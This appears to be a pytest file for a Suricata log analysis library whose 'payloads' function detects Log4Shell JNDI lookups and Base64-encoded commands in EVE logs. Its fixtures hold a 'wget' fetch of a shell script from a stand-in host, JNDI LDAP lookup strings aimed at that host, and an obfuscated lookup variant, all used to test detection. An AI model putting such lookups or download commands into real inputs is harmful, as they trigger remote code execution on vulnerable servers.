"""Scores of ``payloads`` on the samples, and its promises on small frames."""

from __future__ import annotations

import base64
import os
import time
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

import suricata_eve
from suricata_eve.analysis.payloads import payloads
from suricata_eve.errors import EveOptionError, EveValueError, MissingColumnError

OUTSIDE = Path(os.environ.get("SURICATA_EVE_DATA", "../shared")) / "corpus"

TYPES = {
    "timestamp": pa.timestamp("us", "UTC"),
    "flow_id": pa.int64(),
    "event_type": pa.string(),
    "client_ip": pa.string(),
    "server_ip": pa.string(),
    "field": pa.string(),
    "kind": pa.string(),
    "match": pa.string(),
    "resolved": pa.string(),
    "scheme": pa.string(),
    "callback_host": pa.string(),
    "callback_port": pa.uint16(),
    "path": pa.string(),
    "encoded": pa.string(),
    "encoding": pa.string(),
    "content": pa.string(),
    "decoded": pa.string(),
    "data": pa.binary(),
}
COMMAND = "wget http://192.0.2.66/x.sh"
ENCODED = base64.b64encode(COMMAND.encode()).decode()


def lookup(host: str = "192.0.2.66", path: str = "a") -> str:
    return f"${{jndi:ldap://{host}:1389/{path}}}"


def headers(*pairs: tuple[str | None, str]) -> list[dict[str, str | None]]:
    return [{"name": name, "value": value} for name, value in pairs]


def arrow(values: list[Any], kind: pa.DataType | None = None) -> pd.arrays.ArrowExtensionArray:
    return pd.arrays.ArrowExtensionArray(pa.array(values, kind))


def fields(found: pd.DataFrame) -> list[tuple[Any, str, str]]:
    return list(zip(found.index, found["field"], found["match"], strict=True))


@pytest.fixture(scope="module", params=["sample7", "sample8"])
def sample(request: pytest.FixtureRequest) -> pd.DataFrame:
    frame = request.getfixturevalue(request.param)
    assert isinstance(frame, pd.DataFrame)
    return frame


@pytest.fixture(scope="module")
def found(sample: pd.DataFrame) -> pd.DataFrame:
    result = payloads(sample)
    result["community_id"] = sample["community_id"].loc[result.index].to_numpy()
    return result


def flow_of(found: pd.DataFrame, flow: dict[str, Any]) -> pd.DataFrame:
    rows: pd.DataFrame = found[found["community_id"] == flow["community_id"]]
    return rows


def test_every_callback_is_found_where_it_was_planted(
    found: pd.DataFrame, truth: dict[str, Any]
) -> None:
    """All 104: scheme, host, port, path, and the lookup without its disguise."""
    wanted = ["field", "resolved", "scheme", "callback_host", "callback_port", "path"]
    planted = missed = 0
    for flow in truth["log4j_flows"]:
        rows = flow_of(found, flow)[wanted].astype(object)
        have = set(rows.where(rows.notna(), None).itertuples(index=False, name=None))
        for field in flow["fields"]:
            planted += 1
            names = ["field", "normalized", "scheme", "callback_host", "callback_port", "path"]
            missed += tuple(field[name] for name in names) not in have

    assert (planted, missed) == (104, 0)


def test_every_payload_is_decoded_where_it_was_planted(
    found: pd.DataFrame, truth: dict[str, Any]
) -> None:
    """All 97, one of them cut short; the other seven lookups have nothing to decode."""
    decoded = missed = 0
    for flow in truth["log4j_flows"]:
        rows = flow_of(found, flow)
        rows = rows[rows["kind"] == "jndi"]
        have = set(
            rows[["field", "resolved", "encoded", "decoded"]].itertuples(index=False, name=None)
        )
        for field in flow["fields"]:
            if field.get("decoded") is None:
                same = rows[rows["resolved"] == field["normalized"]]
                assert same["decoded"].isna().all()
                continue
            decoded += 1
            names = ["field", "normalized", "encoded", "decoded"]
            missed += tuple(field[name] for name in names) not in have

    assert (decoded, missed) == (97, 0)


def test_decoys_give_no_row(found: pd.DataFrame, truth: dict[str, Any]) -> None:
    assert len(truth["decoys"]) == 12
    assert sum(len(flow_of(found, decoy)) for decoy in truth["decoys"]) == 0


def test_rows_outside_of_planted_flows_are_the_callback(
    sample: pd.DataFrame, found: pd.DataFrame, truth: dict[str, Any]
) -> None:
    """The victim asked the attacker's LDAP server for the payload; its alerts hold it.

    Suricata 8 also has an ``ldap`` event: the request names it, and so does the answer.
    """
    planted = {flow["community_id"] for flow in truth["log4j_flows"]}
    (callback,) = truth["special"]["ldap_callback"]
    rest = found[~found["community_id"].isin(planted)]

    assert set(rest["community_id"]) == {callback["community_id"]}
    assert set(rest["decoded"]) == {callback["decoded"]}
    wanted = [("alert", "payload_printable")] * 2
    if "ldap.responses" in sample:
        wanted += [("ldap", "ldap.request.search_request.base_object"), ("ldap", "ldap.responses")]
    rows = rest[["event_type", "field"]].itertuples(index=False, name=None)
    assert sorted(rows) == sorted(wanted)


def test_base64_rows_of_planted_flows_are_second_stages_and_a_damaged_copy(
    found: pd.DataFrame, truth: dict[str, Any]
) -> None:
    """L08's command holds another one. Of L21 one alert of Suricata 8 has only the printable
    payload, where the letter that makes it a lookup became dots: its Base64 is still there.
    """
    flows = {flow["id"]: flow for flow in truth["log4j_flows"]}
    planted = {flow["community_id"] for flow in flows.values()}
    rest = found[(found["kind"] == "base64") & found["community_id"].isin(planted)]
    second = flow_of(rest, flows["L08"])
    inner = truth["payloads"]["P5"]["inner"]["decoded"]

    assert len(second) == 4
    assert set(second["decoded"]) == {inner}
    others = rest[rest["community_id"] != flows["L08"]["community_id"]]
    damaged = flow_of(others, flows["L21"])
    assert len(others) == len(damaged)
    assert set(damaged["field"]) <= {"payload_printable"}


def test_every_http_event_has_each_planted_lookup_once(
    found: pd.DataFrame, truth: dict[str, Any]
) -> None:
    """Neither User-Agent and Referer among all headers, nor X-Forwarded-For, count twice."""
    rows = found[(found["event_type"] == "http") & (found["kind"] == "jndi")]
    for flow in truth["log4j_flows"]:
        planted = sorted(
            (field["field"], field["normalized"])
            for field in flow["fields"]
            if "body" not in field["field"]  # Suricata logs bodies with alerts alone
        )
        have = flow_of(rows, flow)[["field", "resolved"]].itertuples(index=False, name=None)

        assert sorted(have) == planted


def test_a_spray_over_ten_headers_is_ten_findings(
    found: pd.DataFrame, truth: dict[str, Any]
) -> None:
    spray = flow_of(found, next(flow for flow in truth["log4j_flows"] if flow["id"] == "L12"))
    counts = spray[spray["event_type"] == "http"]["field"].value_counts().to_dict()

    assert counts == {
        "http.url": 1,
        "http.http_user_agent": 1,
        "http.http_refer": 1,
        "http.request_headers": 8,
    }
    for _, alert in spray[spray["event_type"] == "alert"].groupby(level=0):
        assert len(alert) == 11


def test_the_frame_is_not_changed(sample: pd.DataFrame) -> None:
    before = sample.copy()
    payloads(sample, kinds=("jndi", "base64", "eve"), content="any")

    pd.testing.assert_frame_equal(sample, before)


def test_the_index_and_the_event_are_those_of_the_source_row(
    sample: pd.DataFrame, found: pd.DataFrame
) -> None:
    for name in ("timestamp", "flow_id", "event_type"):
        source = sample[name].loc[found.index]
        pd.testing.assert_series_equal(found[name], source)


def test_content_widens_step_by_step(sample: pd.DataFrame) -> None:
    columns = ["match", "encoded", "decoded", "field"]
    before: set[tuple[Any, ...]] = set()
    for content in ("command", "text", "any"):
        rows = payloads(sample, content=content)[columns].astype(object)
        rows = rows.where(rows.notna(), None)
        now = set(rows.itertuples(name=None))
        assert before < now
        before = now


def test_the_sample_takes_well_under_a_second(sample: pd.DataFrame) -> None:
    payloads(sample)
    start = time.perf_counter()
    payloads(sample)

    assert time.perf_counter() - start < 1


def test_a_small_frame_gives_this_whole_table() -> None:
    frame = pd.DataFrame(
        {
            "timestamp": ["2022-01-01T00:00:00+0100", "2022-01-01T00:00:00Z", None],
            "flow_id": [2**53 + 1, 7, None],
            "event_type": ["http", "http", "dns"],
            "src_ip": ["192.0.2.1", "198.51.100.1", None],
            "dest_ip": ["198.51.100.1", "192.0.2.1", None],
            "direction": [None, "to_client", None],
            "http.url": ["/", f"/?a={lookup(path='Base64/' + ENCODED)}", None],
            "dns.rrname": [None, None, f"{ENCODED}.example.net"],
        },
        index=[30, 10, 20],
    ).astype({"flow_id": "Int64"})
    path = "Base64/" + ENCODED
    expected = pd.DataFrame(
        {
            "timestamp": [1_640_995_200_000_000, None],
            "flow_id": [7, None],
            "event_type": ["http", "dns"],
            "client_ip": ["192.0.2.1", None],
            "server_ip": ["198.51.100.1", None],
            "field": ["http.url", "dns.rrname"],
            "kind": ["jndi", "base64"],
            "match": [lookup(path=path), ENCODED],
            "resolved": [lookup(path=path), None],
            "scheme": ["ldap", None],
            "callback_host": ["192.0.2.66", None],
            "callback_port": [1389, None],
            "path": [path, None],
            "encoded": [ENCODED, ENCODED],
            "encoding": ["base64 utf-8"] * 2,
            "content": ["command"] * 2,
            "decoded": [COMMAND] * 2,
            "data": [COMMAND.encode()] * 2,
        },
        index=[10, 20],
        dtype=object,
    )
    expected = pd.DataFrame(
        {name: arrow(list(expected[name]), kind) for name, kind in TYPES.items()},
        index=expected.index,
    )

    pd.testing.assert_frame_equal(payloads(frame), expected)


@pytest.mark.parametrize(
    "frame",
    [
        pd.DataFrame(index=[]),
        pd.DataFrame({"http.url": ["/"]}, index=pd.Index([5], name="line")),
        pd.DataFrame({"http.url": arrow([None], pa.string())}),
        pd.DataFrame({"http.url": [lookup()]}).iloc[:0],
        pd.DataFrame({"alert.signature": [lookup()], "src_ip": [lookup()], 7: [lookup()]}),
    ],
)
def test_without_findings_columns_and_dtypes_are_the_same(frame: pd.DataFrame) -> None:
    found = payloads(frame)

    assert len(found) == 0
    assert found.dtypes.to_dict() == {name: pd.ArrowDtype(kind) for name, kind in TYPES.items()}
    assert found.index.dtype == frame.index.dtype
    assert found.index.name == frame.index.name


@pytest.mark.parametrize("dtype", ["object", "string", "string[pyarrow]", "category", None])
def test_text_of_any_dtype_is_searched(dtype: str | None) -> None:
    column = pd.Series([None, lookup(), "x", lookup("b")], index=list("wxyz"), dtype=dtype)
    found = payloads(column.to_frame("http.url"))

    assert fields(found) == [("x", "http.url", lookup()), ("z", "http.url", lookup("b"))]


def test_columns_of_python_objects_are_searched() -> None:
    frame = pd.DataFrame(
        {
            "http.request_headers": [headers(("A", lookup("a"))), np.nan, headers(("B", "b"))],
            "email.to": [[lookup("c"), "d"], None, []],
            "smtp.odd": [1, lookup("e"), {"f": [lookup("f")]}],
        }
    )

    assert sorted(payloads(frame)["callback_host"]) == ["a", "c", "e"]


def test_indexes_may_be_anything() -> None:
    index = pd.MultiIndex.from_tuples([("a", 1), ("a", 1)], names=["x", "y"])
    frame = pd.DataFrame({"http.url": [lookup("a"), lookup("b")]}, index=index)
    found = payloads(frame)

    pd.testing.assert_index_equal(found.index, index)
    assert found["callback_host"].tolist() == ["a", "b"]


def test_columns_of_one_name_are_all_searched() -> None:
    frame = pd.DataFrame([[lookup("a"), lookup("b")]], columns=["http.url", "http.url"])

    assert sorted(payloads(frame)["callback_host"]) == ["a", "b"]


def test_a_copy_is_in_the_most_specific_field() -> None:
    one, two, three = lookup("one"), lookup("two"), lookup("three")
    printable = (
        f"GET /{one} HTTP/1.1\r\nUser-Agent: {two}\r\nX: {three}\r\nCookie: {one}\r\n\r\n{two}"
    )
    kind = pa.list_(pa.struct([("name", pa.string()), ("value", pa.string())]))
    frame = pd.DataFrame(
        {
            "payload_printable": arrow([printable, printable, None]),
            "fileinfo.filename": arrow(["/" + one.replace("//", "/"), None, "/" + two]),
            "http.request_headers": arrow(
                [
                    headers(("USER-AGENT", two), ("X", three), (None, one), ("Cookie", one)),
                    None,
                    headers(("Cookie", one), ("Cookie", two)),
                ],
                kind,
            ),
            "http.url": arrow([f"/{one.replace('$', '%24')}", "/", "/"]),
            "http.http_user_agent": arrow([two, None, one]),
            "http.cookie": arrow([one, None, None]),
        },
        index=[9, 8, 7],
    )

    assert fields(payloads(frame)) == [
        (9, "http.url", one.replace("$", "%24")),
        (9, "http.http_user_agent", two),
        (9, "http.cookie", one),
        (9, "http.request_headers", three),
        (9, "http.request_headers", one),
        (9, "payload_printable", two),
        (8, "payload_printable", one),
        (8, "payload_printable", two),
        (8, "payload_printable", three),
        (8, "payload_printable", one),
        (8, "payload_printable", two),
        (7, "http.http_user_agent", one),
        (7, "http.request_headers", one),
        (7, "http.request_headers", two),
    ]


def test_a_copy_that_was_cut_or_damaged_is_a_copy() -> None:
    full = lookup(path="Base64/" + ENCODED).replace("jndi", "jnd${upper:\u0131}")
    frame = pd.DataFrame(
        {
            "http.url": [f"/{full}", f"/{lookup('h', 'abcdef')}"],
            "payload_printable": [full.replace("\u0131", ".."), f"GET /{lookup('h', 'abc')[:-1]}"],
        }
    )

    assert payloads(frame)["field"].tolist() == ["http.url", "http.url"]


def test_the_same_text_in_other_rows_is_no_copy() -> None:
    frame = pd.DataFrame({"http.url": [lookup(), None], "payload_printable": [None, lookup()]})

    assert fields(payloads(frame)) == [
        (0, "http.url", lookup()),
        (1, "payload_printable", lookup()),
    ]


def test_eve_base64_is_decoded_as_it_is() -> None:
    raw = [b"GET / HTTP/1.1\r\n\r\n", b"\x00\xff\x01", b""]
    frame = pd.DataFrame(
        {
            "payload": [base64.b64encode(value).decode() for value in raw] + ["not base64!", None],
            "packet": [None] * 3 + ["AAE=", None],
            "http.url": [lookup()] * 5,
        }
    )
    found = payloads(frame, kinds=["eve"])

    assert fields(found) == [
        (0, "payload", frame["payload"][0]),
        (1, "payload", frame["payload"][1]),
        (2, "payload", ""),
        (3, "payload", "not base64!"),
        (3, "packet", "AAE="),
    ]
    assert found["data"].fillna(b"none").tolist()[:3] == raw
    assert found["decoded"].fillna("none").tolist()[:2] == ["GET / HTTP/1.1\r\n\r\n", "none"]
    assert found["kind"].unique().tolist() == ["eve"]
    assert payloads(frame, ["http.url"], kinds=["eve"]).empty


def test_kinds_are_filtered() -> None:
    frame = pd.DataFrame({"http.url": [lookup(), f"/{ENCODED}/", "/"], "payload": ["", None, None]})

    assert payloads(frame, kinds=["jndi"]).index.tolist() == [0]
    assert payloads(frame, kinds=["base64"]).index.tolist() == [1]
    assert payloads(frame, kinds="jndi").index.tolist() == [0]
    assert payloads(frame, kinds=[]).empty


def test_chosen_columns_are_searched_whatever_they_hold() -> None:
    frame = pd.DataFrame(
        {
            "alert.signature": [lookup("a")],
            "payload": [base64.b64encode(f"GET {lookup('b')}".encode()).decode()],
            "http.url": [lookup("c")],
            "src_port": [80],
        }
    )
    chosen = ["src_port", "payload", "alert.signature"]

    assert payloads(frame, chosen)["callback_host"].tolist() == ["a", "b"]
    assert payloads(frame, "alert.signature")["callback_host"].tolist() == ["a"]
    assert payloads(frame, []).empty


def test_a_missing_column_is_named_with_what_comes_close() -> None:
    frame = pd.DataFrame({"http.url": [lookup()]})

    with pytest.raises(MissingColumnError, match=r"payloads\(\).*'http\.uri'.*'http\.url'"):
        payloads(frame, ["http.uri"])


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"kinds": ["jndi", "rot13"]}, r"payloads\(\): kinds has no choice 'rot13'.*'base64'"),
        ({"content": "all"}, r"payloads\(\): content has no choice 'all'.*'command'"),
    ],
)
def test_an_unknown_option_is_named_with_the_choices(options: dict[str, Any], message: str) -> None:
    with pytest.raises(EveOptionError, match=message):
        payloads(pd.DataFrame(), **options)


def test_a_flow_id_that_int64_cannot_hold_is_an_error_and_never_another_number() -> None:
    frame = pd.DataFrame({"flow_id": np.array([2**63], np.uint64), "http.url": [lookup()]})

    with pytest.raises(EveValueError, match="flow_id"):
        payloads(frame)


def test_many_rows_cost_little() -> None:
    rows = 100_000
    frame = pd.DataFrame(
        {
            "http.url": arrow([f"/page/{n}?session={n * 7919:x}" for n in range(rows)]),
            "http.http_user_agent": arrow([lookup(str(n % 50)) for n in range(rows)]),
            "payload_printable": arrow([f"UA: {lookup(str(n % 50))}" for n in range(rows)]),
        }
    )
    start = time.perf_counter()
    found = payloads(frame)

    assert time.perf_counter() - start < 4
    assert len(found) == rows
    assert set(found["field"]) == {"http.http_user_agent"}


@pytest.mark.parametrize("name", ["suricata-7.0.10.json.gz", "suricata-8.0.7.json.gz"])
def test_in_other_traffic_nothing_but_a_real_exploit_is_a_command(name: str) -> None:
    """Of 700 odd captures one is an attack on PowerShell remoting that starts a program."""
    if not (OUTSIDE / name).exists():
        pytest.skip("the corpus is not at SURICATA_EVE_DATA")
    found = payloads(suricata_eve.read_eve(OUTSIDE / name))

    assert set(found["field"]) == {"http.http_request_body_printable"}
    assert len(set(found["flow_id"])) == 1
    assert found["decoded"].str.contains("/c calc.exe").all()
